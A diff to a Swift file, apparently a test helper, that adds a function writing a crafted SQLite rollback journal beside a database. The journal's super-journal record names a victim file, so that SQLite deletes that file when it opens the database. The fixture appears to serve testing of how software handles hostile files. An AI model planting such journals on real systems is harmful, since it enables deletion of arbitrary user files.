@@ -70,6 +70,20 @@ enum CraftedLog {
         try FileBytes.write(bytes, to: path)
     }
 
+    /// Puts a journal beside a file that has SQLite remove another file.
+    static func plantJournal(beside path: String, removing victim: String) throws {
+        let magic: [UInt8] = [0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7]
+        let pages = try FileBytes.read(path).count / 4_096
+        var journal = magic
+        for field in [0, 12_345, UInt32(pages), 512, 4_096] { journal += bigEndian(field, 4) }
+        journal += [UInt8](repeating: 0, count: 512 - journal.count)
+        let name = Array(victim.utf8)
+        // The page that never is, the name, its length and the sum of its bytes.
+        journal += bigEndian((1 << 30) / 4_096 + 1, 4) + name + bigEndian(UInt32(name.count), 4)
+        journal += bigEndian(name.reduce(0) { $0 + UInt32($1) }, 4) + magic
+        try FileBytes.write(journal, to: path + "-journal")
+    }
+
     private static func rootPage(of table: String, in path: String) throws -> Int {
         let connection = try Connection(path: path, mode: .reader)
         return try connection.statement(
